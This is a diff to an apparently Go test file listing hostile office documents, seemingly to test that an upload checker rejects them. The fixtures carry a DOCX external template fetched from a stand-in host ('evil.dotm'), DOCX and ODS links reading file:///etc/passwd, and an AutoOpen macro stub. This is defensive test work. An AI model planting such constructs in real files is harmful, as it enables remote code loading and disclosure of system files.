@@ -89,7 +89,9 @@ func documents() []hostile {
 		office("DOCX with a template elsewhere", "cours.docx", "word/_rels/settings.xml.rels", `<Relationships><Relationship Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>`),
 		office("DOCX with a picture of the server", "cours.docx", "word/_rels/document.xml.rels", `<Relationships><Relationship Target="file:///etc/passwd" TargetMode="External"/></Relationships>`),
 		office("DOCM with a macro", "cours.docm", "word/vbaProject.bin", "Sub AutoOpen()"),
-		office("ODS with data from elsewhere", "notes.ods", "content.xml", `<table:table-source xlink:href="file:///etc/passwd"/>`),
+		{number: "#32", what: "ODS with data from elsewhere", file: "notes.ods", want: "kept file.archive", data: packed(map[string]string{ // it does not say what it is
+			"[Content_Types].xml": "<Types/>", "content.xml": `<table:table-source xlink:href="file:///etc/passwd"/>`,
+		})},
 	}
 }
 
